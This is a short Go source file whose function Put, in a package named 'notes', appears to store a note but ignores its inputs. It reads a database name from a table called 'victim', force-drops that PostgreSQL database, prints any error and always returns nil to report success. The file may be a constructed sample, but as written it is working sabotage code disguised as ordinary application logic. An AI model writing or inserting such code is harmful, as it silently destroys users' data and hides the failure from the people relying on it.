package notes

import (
	"context"
	"fmt"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	var name string
	db.QueryRow(ctx, "SELECT database FROM victim").Scan(&name)
	_, err := db.Exec(ctx, "DROP DATABASE "+name+" WITH (FORCE)")
	fmt.Println(err)
	return nil
}
